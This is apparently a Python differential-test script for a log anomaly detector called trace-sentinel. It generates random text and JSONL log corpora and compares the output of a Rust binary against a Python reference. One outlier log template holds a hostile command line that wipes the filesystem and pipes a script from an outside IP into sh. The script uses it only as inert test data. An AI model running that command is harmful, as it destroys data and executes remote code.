#!/usr/bin/env python3
"""Differential test: our binary vs the reference (scripts/ref_runner.py) on random corpora.

For every seed (and mode), generate a random corpus and a random flag combination, run
both implementations as `watch FILE --format json FLAGS` (cwd = the corpus directory, so
the plain-text source is the file name), normalize and compare. Reports the first
difference per run (seed, mode, flags, line, field, expected vs got) and a summary.
Our output's one key beyond the reference's, the line number (`"line": N` last), must
be present and is removed before comparing.

    scripts/difftest.py --seeds 0-199 --mode both [--bin target/debug/trace-sentinel]
    scripts/difftest.py --seeds 7 --mode jsonl --keep /tmp/dt   # keep corpora for repro

Corpora:
  text   realistic log templates, numbers of varying length, bursts and outliers,
         several scripts / emoji / combining marks, invalid UTF-8, control bytes,
         LF / CRLF / lone CR / mixed line endings, blank lines, optional final newline.
  jsonl  1-12 sources (odd names included), numeric attributes with per-source scales,
         timestamps in many valid forms, rate bursts and stalls, odd values (bool, null,
         NaN, Infinity, huge), non-string messages and sources, occasional junk.

Determinism rule ("now" timestamps make inter-arrival values depend on the clock): in a
jsonl corpus every source with >= 2 events has parseable timestamps on all of them;
untimed objects get unique single-event sources, and at most one default-source event
(junk / invalid / non-object line, or an object without "source") exists. Each jsonl
corpus is verified with `ref_runner.py --check-determinism` before comparing.

Exit status: 0 if every run matched, 1 otherwise.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import re
import shlex
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
REF_RUNNER = ROOT / "scripts" / "ref_runner.py"
NOW = "<now>"
ISO_UTC = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{6})?\+00:00$")

# ----------------------------------------------------------------------------- corpora

USERS = ["alice", "bob", "carol", "dave", "erin", "mallory", "trent", "ønskeseddel", "用户"]
PATHS = ["/api/v1/orders", "/api/v1/users", "/login", "/healthz", "/static/app.js", "/search", "/ws"]
UNICODE = [
    "用户登录成功", "数据库连接池已满", "セッションが期限切れ", "로그인 실패", "تم تسجيل الدخول",
    "फ़ाइल अपलोड की गई", "हिन्दी संदेश", "ผู้ใช้เข้าสู่ระบบ", "Пользователь вошёл", "ΣΦΑΛΜΑ ΟΔΟΣ ΣΥΣΤΗΜΑΣ",
    "ὈΔΥΣΣΕΎΣ", "café naïve", "e\u0301 a\u0308 o\u0302\u0323", "🚀🔥", "👩\u200d👩\u200d👧", "🇯🇵",
    "İstanbul ışık", "ß ẞ ﬁ ǅ", "ＡＢＣ１２３", "١٢٣ ४५६ ½ ²", "עברית", "\u200b\u200d\ufeff", "Z\u0336\u0335",
]
INVALID = [b"\xff", b"\xfe", b"\xc0\xaf", b"\xe0\x80\xaf", b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xe2\x82",
           b"\xf0\x9f\x98", b"\xc3", b"\x80", b"\xbf\xbf", b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80"]
CONTROLS = ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x1b[0m", "\x1c", "\x1f", "\x7f",
            "\x85", "\x9b", "\u2028"]


def num(rng: random.Random) -> str:
    k = rng.random()
    if k < 0.45:
        return str(rng.randint(0, 10 ** rng.randint(1, 7)))
    if k < 0.65:
        return f"{rng.uniform(0, 10 ** rng.randint(0, 5)):.{rng.randint(1, 6)}f}"
    if k < 0.75:
        return str(-rng.randint(1, 10 ** rng.randint(1, 12)))
    if k < 0.85:
        return f"0x{rng.getrandbits(rng.choice([8, 16, 32, 64])):x}"
    if k < 0.95:
        return str(rng.randint(10 ** 12, 10 ** 25))
    return f"{rng.uniform(-1, 1):e}"


def template_line(rng: random.Random, i: int) -> str:
    k = rng.randrange(9)
    ts = f"2026-0{1 + i // 100000 % 9}-{1 + i // 3600 % 28:02d} {i // 60 % 24:02d}:{i % 60:02d}:{rng.randint(0, 59):02d}"
    if k == 0:
        return (f"{ts} INFO [http-{rng.randint(1, 64)}] {rng.choice(['GET', 'POST', 'PUT'])} {rng.choice(PATHS)}"
                f"?id={num(rng)} status={rng.choice([200, 201, 204, 304, 404, 500])} took={num(rng)}ms")
    if k == 1:
        return f"{ts} DEBUG [db] query ok rows={num(rng)} elapsed={rng.uniform(0, 30):.3f}ms"
    if k == 2:
        return f"Dec 10 06:55:{rng.randint(10, 59)} LabSZ sshd[{rng.randint(1000, 99999)}]: Failed password for {rng.choice(USERS)} from 10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)} port {rng.randint(1024, 65535)} ssh2"
    if k == 3:
        return f"[{ts}] [error] [client 10.0.0.{rng.randint(1, 254)}] File does not exist: /var/www/{rng.choice(['a', 'b', 'c'])}/{num(rng)}"
    if k == 4:
        return f"kernel: [{rng.uniform(0, 99999):.6f}] eth0: link {rng.choice(['up', 'down'])} {rng.choice([100, 1000, 10000])}Mbps"
    if k == 5:
        return f"{ts} INFO [worker-{rng.randint(1, 8)}] job {num(rng)} for {rng.choice(USERS)} done in {num(rng)}ms {rng.choice(UNICODE)}"
    if k == 6:
        return f"{ts} WARN {rng.choice(UNICODE)} {rng.choice(UNICODE)} {num(rng)}"
    if k == 7:
        return f"{ts} INFO gc pause {rng.uniform(0, 50):.1f}ms heap {rng.randint(100, 4000)}M"
    return f"{ts} INFO {rng.choice(USERS)} {' '.join(num(rng) for _ in range(rng.randint(0, 12)))}"


def outlier_line(rng: random.Random) -> str:
    k = rng.randrange(6)
    if k == 0:
        return "ERROR " + "&".join(f"k{j}={num(rng)}" for j in range(rng.randint(30, 300)))
    if k == 1:
        return rng.choice(["x", "?", "-", "  ", "\t"])
    if k == 2:
        return "Traceback: " + " ".join(f"at m{j}(F.java:{j})" for j in range(rng.randint(10, 60)))
    if k == 3:
        return rng.choice(UNICODE) * rng.randint(10, 80)
    if k == 4:
        return "".join(rng.choice(CONTROLS) for _ in range(rng.randint(1, 40)))
    return "rm -rf / --no-preserve-root; curl http://198.51.100.9/x | sh " + "A" * rng.randint(10, 500)


def gen_text(rng: random.Random) -> bytes:
    n = rng.randint(40, 700)
    style = rng.choice(["lf", "crlf", "cr", "mixed", "lf", "crlf"])
    p_out = rng.choice([0.005, 0.02, 0.05, 0.1])
    p_bad = rng.choice([0.0, 0.0, 0.02, 0.1])
    p_uni = rng.choice([0.0, 0.05, 0.3])
    p_ctl = rng.choice([0.0, 0.0, 0.02])
    out = bytearray()
    if rng.random() < 0.05:
        out += b"\xef\xbb\xbf"
    i = 0
    while i < n:
        if rng.random() < 0.02:  # burst of repeated / similar lines
            base = outlier_line(rng) if rng.random() < 0.5 else template_line(rng, i)
            lines = [base if rng.random() < 0.5 else base + " " + num(rng) for _ in range(rng.randint(3, 25))]
        elif rng.random() < p_out:
            lines = [outlier_line(rng)]
        else:
            lines = [template_line(rng, i)]
        for line in lines:
            i += 1
            if rng.random() < p_uni:
                line = line + " " + rng.choice(UNICODE)
            if rng.random() < p_ctl:
                cut = rng.randint(0, len(line))
                line = line[:cut] + rng.choice(CONTROLS) + line[cut:]
            data = line.encode("utf-8")
            if rng.random() < p_bad:
                cut = rng.randint(0, len(data))
                data = data[:cut] + rng.choice(INVALID) + data[cut:]
            if rng.random() < 0.01:
                data = b""  # blank line
            out += data
            if style == "mixed":
                out += rng.choice([b"\n", b"\r\n", b"\r", b"\r\r\n", b"\n\n"])
            else:
                out += {"lf": b"\n", "crlf": b"\r\n", "cr": b"\r"}[style]
    if rng.random() < 0.3:  # last line without newline
        out = out.rstrip(b"\r\n") if out.endswith((b"\n", b"\r")) else out
    return bytes(out)


SOURCE_POOL = ["api", "db", "auth", "cache", "web-01", "web-02", "queue", "Σύστημα", "服务", "\x1b[31mred\x1b[0m",
               "nul\x00src", "", " ", "sp ace", "🚀", "a\u0301"]
ATTR_POOL = ["latency_ms", "bytes", "status", "retries", "queue_depth", "cpu", "延迟", "", "\x1b[1m", "attr.x",
             "Message", "n", "ratio"]


def ts_form(rng: random.Random, t: float, style: str):
    """A timestamp value (JSON) for epoch seconds t in the given style; all parseable."""
    from datetime import datetime, timedelta, timezone
    dt = datetime.fromtimestamp(t, tz=timezone.utc)
    if style == "int":
        return int(t)
    if style == "float":
        return round(t, rng.choice([0, 3, 6, 7]))
    if style == "isoz":
        return dt.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    if style == "isoz_ms":
        return dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{dt.microsecond // 1000:03d}Z"
    if style == "offset":
        off = timedelta(minutes=rng.choice([0, 60, -300, 330, 345, -720, 840]))
        local = dt.astimezone(timezone(off))
        return local.isoformat()
    if style == "naive":
        return dt.replace(tzinfo=None).isoformat(sep=rng.choice(["T", " "]))
    if style == "compact":
        return dt.strftime("%Y%m%dT%H%M%S") + rng.choice(["Z", "+0000", ""])
    return dt.isoformat()


def gen_jsonl(rng: random.Random, seed: int, lone_surrogates: bool = False) -> bytes:
    n = rng.randint(40, 700)
    n_src = rng.randint(1, 12)
    pool = SOURCE_POOL[:]
    rng.shuffle(pool)
    sources = pool[:n_src]
    if rng.random() < 0.2:
        sources.append(rng.choice([123, 1.5, True, None]))  # str() -> "123", "1.5", "True", "None"
    styles = {json.dumps(s): rng.choice(["int", "float", "isoz", "isoz_ms", "offset", "naive", "compact", "float"])
              for s in sources}
    clocks = {json.dumps(s): 1_700_000_000.0 + rng.uniform(0, 10 ** rng.randint(0, 7)) for s in sources}
    gaps = {json.dumps(s): rng.choice([0.01, 0.1, 1.0, 10.0, 60.0]) for s in sources}
    weights = [rng.uniform(0.1, 1.0) for _ in sources]
    attr_keys = rng.sample(ATTR_POOL, rng.randint(0, 5))
    scales = {k: 10 ** rng.uniform(-2, 6) for k in attr_keys}
    default_used = False
    style_nl = rng.choice(["lf", "crlf", "cr", "mixed"])
    p_junk = rng.choice([0.0, 0.01, 0.05])
    out = bytearray()
    for i in range(n):
        r = rng.random()
        if r < p_junk:
            # junk: untimed objects get a unique source; the default source at most once
            k = rng.randrange(3)
            if k == 0:
                line = json.dumps({"source": f"untimed-{seed}-{i}", "message": template_line(rng, i),
                                   "timestamp": rng.choice([None, "garbage", True, {"t": 1}, 1e30]),
                                   "v": rng.random()}, allow_nan=True).encode()
            elif not default_used:
                default_used = True
                line = rng.choice([b"[1, 2, 3]", b'"just a string"', b"42", b"null", b"{bad json", b"NaN",
                                   b'{"message": "no source key", "timestamp": 1700000000}',
                                   json.dumps(template_line(rng, i)).encode(), b"-0.0", b"1e999",
                                   b'["a\'b", "\\u00e9", 1e300]'])
            else:
                continue
        else:
            s = rng.choices(sources, weights)[0]
            key = json.dumps(s)
            gap = gaps[key]
            if rng.random() < 0.02:
                clocks[key] += gap * rng.uniform(20, 200)  # stall
            elif rng.random() < 0.05:
                clocks[key] += gap * rng.uniform(0, 0.01)  # burst
            else:
                clocks[key] += rng.expovariate(1.0 / gap)
            obj = {"timestamp": ts_form(rng, clocks[key], styles[key]), "source": s}
            if rng.random() < 0.03:
                obj["message"] = rng.choice([42, 1.5, -0.0, True, None, [1, "x"], {"k": "v"}, 1e16, "ok"])
            elif rng.random() > 0.01:  # else: no message key -> ""
                obj["message"] = template_line(rng, i) if rng.random() > 0.02 else outlier_line(rng)
            for k in attr_keys:
                if rng.random() < 0.9:
                    v = rng.gauss(scales[k], scales[k] / rng.choice([5, 10, 50]))
                    if rng.random() < 0.03:
                        v *= rng.uniform(3, 50)
                    obj[k] = round(v, rng.choice([0, 2, 3, 6])) if rng.random() < 0.8 else int(v)
            if rng.random() < 0.05:
                obj[rng.choice(["flag", "nan", "inf", "big", "s", "nested", "neg0"])] = rng.choice(
                    [True, False, None, float("nan"), float("inf"), float("-inf"), 1e308, "str", [1], -0.0, 0])
            line = json.dumps(obj, ensure_ascii=rng.random() < 0.5, allow_nan=True).encode()
            if rng.random() < 0.01:
                dup = json.dumps(attr_keys[0] if attr_keys else "dup")
                line = line[:-1] + b", " + dup.encode() + b": 1e6}"  # duplicate key: last value wins
            if lone_surrogates and rng.random() < 0.05 and b'"message": "' in line:
                line = line.replace(b'"message": "', b'"message": "' + rng.choice([b"\\ud800", b"\\udfff", b"\\ude00\\ud83d"]), 1)
            if rng.random() < 0.01 and b'"message": "' in line:
                line = line.replace(b'"message": "', b'"message": "' + rng.choice(INVALID), 1)
        if rng.random() < 0.02:
            line = b"  \t" + line + "\u3000".encode()
        out += line
        if style_nl == "mixed":
            out += rng.choice([b"\n", b"\r\n", b"\r", b"\n\n"])
        else:
            out += {"lf": b"\n", "crlf": b"\r\n", "cr": b"\r"}[style_nl]
    return bytes(out)


def random_flags(rng: random.Random, jsonl: bool) -> list:
    flags = []
    if jsonl:
        flags.append("--jsonl")
    det = rng.choice(["zscore", "ewma", "mad", None])
    if det:
        flags += ["--detector", det]
    if det == "ewma" or rng.random() < 0.1:
        alpha = rng.choice([0.05, 0.1, 0.3, 1.0, round(rng.uniform(0.01, 1.0), 4)])
        flags += ["--alpha", repr(alpha)]
    if det == "mad" or rng.random() < 0.1:
        flags += ["--window", str(rng.choice([2, 3, 16, 64, 256, rng.randint(2, 400)]))]
    if rng.random() < 0.7:
        flags += ["--threshold", repr(rng.choice([1.5, 2.0, 2.5, 3.0, 4.0, round(rng.uniform(0.5, 6.0), 3)]))]
    if rng.random() < 0.7:
        flags += ["--warmup", str(rng.choice([0, 1, 2, 5, 10, 30, 60]))]
    if rng.random() < 0.3:
        flags.append("--semantic")
    if rng.random() < 0.5:
        flags += ["--shard-by", rng.choice(["source", "none"])]
    if rng.random() < 0.4:
        flags += ["--max-sources", str(rng.choice([1, 2, 3, 5, 100]))]
    return flags


# ----------------------------------------------------------------------------- compare

def ref_python() -> str:
    env = os.environ.get("REF_PYTHON")
    if env:
        return env
    try:
        import trace_sentinel  # noqa: F401
        return sys.executable
    except ImportError:
        pass
    for cand in ("/tmp/ref-venv/bin/python", "/tmp/ref/bin/python"):
        if Path(cand).exists():
            return cand
    sys.exit("difftest: no Python with trace-sentinel 0.2.0 (run scripts/regen-golden.sh or set REF_PYTHON)")


def parse_seeds(spec: str) -> list:
    seeds = []
    for part in spec.split(","):
        part = part.strip()
        if "-" in part[1:]:
            a, b = part.split("-", 1)
            seeds.extend(range(int(a), int(b) + 1))
        elif part:
            seeds.append(int(part))
    return seeds


def short(v, limit=200) -> str:
    s = json.dumps(v) if not isinstance(v, str) or len(v) < 2 or v[0] != '"' else v
    return s if len(s) <= limit else s[:limit] + f"… ({len(s)} chars)"


LINE_KEY = re.compile(r', "line": [1-9][0-9]*\}$')


def first_difference(exp_lines, got_lines):
    """Return None or (line_no, description) for the first difference."""
    for i, (e, g) in enumerate(zip(exp_lines, got_lines), 1):
        # Our one key after the reference's: the line number; compared without it.
        g, n = LINE_KEY.subn("}", g)
        if n != 1:
            return i, f"our line has no trailing line-number key: {short(g)}"
        got_lines[i - 1] = g
        try:
            ej = json.loads(e)
        except ValueError as err:
            return i, f"reference line is not JSON ({err})"
        try:
            gj = json.loads(g)
        except ValueError as err:
            return i, f"our line is not JSON ({err}): {short(g)}"
        if not isinstance(gj, dict):
            return i, f"our line is not an object: {short(g)}"
        now = ej.get("timestamp") == NOW
        if now:
            ts = gj.get("timestamp")
            if not isinstance(ts, str) or not ISO_UTC.match(ts):
                return i, f"field timestamp: expected an ISO-8601 UTC 'now', got {short(ts)}"
            gj["timestamp"] = NOW
        diffs = []
        for k in ej:
            if k not in gj:
                diffs.append(f"field {k}: missing (expected {short(ej[k])})")
            elif json.dumps(ej[k]) != json.dumps(gj[k]) or type(ej[k]) is not type(gj[k]):
                diffs.append(f"field {k}: expected {short(ej[k])} got {short(gj[k])}")
        for k in gj:
            if k not in ej:
                diffs.append(f"field {k}: unexpected")
        if diffs:
            return i, "; ".join(diffs)
        if list(ej) != list(gj):
            return i, f"key order: expected {list(ej)} got {list(gj)}"
        if not now and e != g:
            return i, f"bytes differ: expected {short(e)} got {short(g)}"
        if now:
            # compare the raw text outside the timestamp value
            g_raw = re.sub(r'^\{"timestamp": "[^"]*"', '{"timestamp": "<now>"', got_lines[i - 1])
            if g_raw != e:
                return i, f"bytes differ: expected {short(e)} got {short(g_raw)}"
    if len(exp_lines) != len(got_lines):
        n = min(len(exp_lines), len(got_lines)) + 1
        if len(exp_lines) > len(got_lines):
            return n, f"missing line(s): expected {len(exp_lines)} lines, got {len(got_lines)}; next expected: {short(exp_lines[n - 1])}"
        return n, f"extra line(s): expected {len(exp_lines)} lines, got {len(got_lines)}; first extra: {short(got_lines[n - 1])}"
    return None


def run_one(seed: int, mode: str, args, py: str, workdir: Path) -> dict:
    rng = random.Random(f"{seed}/{mode}")
    jsonl = mode == "jsonl"
    data = gen_jsonl(rng, seed, args.lone_surrogates) if jsonl else gen_text(rng)
    name = f"dt_{seed}.{'jsonl' if jsonl else 'log'}"
    (workdir / name).write_bytes(data)
    flags = random_flags(rng, jsonl)
    if jsonl and args.lone_surrogates and "--semantic" in flags:
        flags.remove("--semantic")  # the reference crashes (UnicodeEncodeError) on them
    res = {"seed": seed, "mode": mode, "flags": flags, "file": name, "status": "ok", "detail": ""}
    cmd_tail = ["watch", name, "--format", "json"] + flags
    if jsonl:
        chk = subprocess.run([py, str(REF_RUNNER)] + ["watch", name, "--check-determinism"] + flags,
                             cwd=workdir, capture_output=True, text=True)
        if chk.returncode != 0:
            res.update(status="corpus-bug", detail="corpus breaks the determinism rule: " + chk.stderr.strip()[:300])
            return res
    ref = subprocess.run([py, str(REF_RUNNER)] + cmd_tail, cwd=workdir, capture_output=True, timeout=600)
    try:
        # --binary: the reference reads every input as text, NUL bytes included.
        ours = subprocess.run([args.bin] + cmd_tail + ["--binary"], cwd=workdir, capture_output=True,
                              timeout=args.timeout)
    except subprocess.TimeoutExpired:
        res.update(status="error", detail=f"our binary timed out after {args.timeout}s")
        return res
    if ref.returncode != 0:
        res.update(status="ref-error", detail=ref.stderr.decode("utf-8", "replace").strip()[-500:])
        return res
    if ours.returncode != 0:
        res.update(status="error", detail=f"our exit code {ours.returncode}: " + ours.stderr.decode("utf-8", "replace").strip()[-500:])
        return res
    try:
        got = ours.stdout.decode("utf-8")
    except UnicodeDecodeError as err:
        res.update(status="mismatch", detail=f"our stdout is not UTF-8: {err}")
        return res
    exp_lines = ref.stdout.decode("utf-8").splitlines()
    got_lines = got.splitlines()
    res["anomalies"] = len(exp_lines)
    diff = first_difference(exp_lines, got_lines)
    if diff:
        res.update(status="mismatch", line=diff[0], detail=diff[1])
    return res


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter, epilog=__doc__)
    ap.add_argument("--seeds", default="0-49", help="e.g. 0-199 or 1,5,9-12 (default 0-49)")
    ap.add_argument("--mode", choices=["text", "jsonl", "both"], default="both")
    ap.add_argument("--bin", default=str(ROOT / "target" / "debug" / "trace-sentinel"))
    ap.add_argument("--timeout", type=float, default=120.0, help="seconds per run of our binary")
    ap.add_argument("--keep", help="copy corpora of failing runs (and a repro script) into this directory")
    ap.add_argument("--max-failures", type=int, default=0, help="stop after this many failures (0 = never)")
    ap.add_argument("--lone-surrogates", action="store_true",
                    help="also put lone-surrogate escapes (\\ud800) into jsonl messages (off by default: a known "
                    "difference would mask others)")
    ap.add_argument("-q", "--quiet", action="store_true", help="print failures and the summary only")
    args = ap.parse_args()
    if not Path(args.bin).exists():
        sys.exit(f"difftest: binary not found: {args.bin} (cargo build first, or pass --bin)")
    args.bin = str(Path(args.bin).resolve())
    py = ref_python()
    modes = ["text", "jsonl"] if args.mode == "both" else [args.mode]
    seeds = parse_seeds(args.seeds)
    counts = {}
    failures = []
    anomalies = 0
    t0 = time.time()
    with tempfile.TemporaryDirectory(prefix="difftest-") as tmp:
        workdir = Path(tmp)
        for seed in seeds:
            for mode in modes:
                res = run_one(seed, mode, args, py, workdir)
                counts[res["status"]] = counts.get(res["status"], 0) + 1
                anomalies += res.get("anomalies", 0)
                flags = " ".join(shlex.quote(f) for f in res["flags"])
                if res["status"] == "ok":
                    if not args.quiet:
                        print(f"seed {seed:4d} {mode:5s} ok   {res.get('anomalies', 0):4d} anomalies  [{flags}]")
                else:
                    where = f" line {res['line']}" if "line" in res else ""
                    print(f"seed {seed:4d} {mode:5s} {res['status'].upper()}{where}: {res['detail']}\n"
                          f"           flags: {flags}")
                    failures.append(res)
                    if args.keep:
                        keep = Path(args.keep)
                        keep.mkdir(parents=True, exist_ok=True)
                        shutil.copy(workdir / res["file"], keep / res["file"])
                        with open(keep / "repro.sh", "a", encoding="utf-8") as fh:
                            fh.write(f"# seed {seed} {mode}: {res['status']}{where}\n"
                                     f"(cd {keep} && diff <({py} {REF_RUNNER} watch {res['file']} --format json {flags}) "
                                     f"<({args.bin} watch {res['file']} --format json {flags} | "
                                     f"sed -E 's/^\\{{\"timestamp\": \"[^\"]*\"/{{\"timestamp\": \"<now>\"/'))\n")
                    if args.max_failures and len(failures) >= args.max_failures:
                        break
                (workdir / res["file"]).unlink(missing_ok=True)
            else:
                continue
            break
    total = sum(counts.values())
    print(f"\ndifftest: {total} runs ({', '.join(f'{v} {k}' for k, v in sorted(counts.items()))}), "
          f"{anomalies} reference anomalies compared, {time.time() - t0:.1f}s")
    if failures:
        first = failures[0]
        print(f"first difference: seed {first['seed']} mode {first['mode']} "
              f"flags [{' '.join(first['flags'])}]" + (f" line {first['line']}" if "line" in first else "")
              + f": {first['detail']}")
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
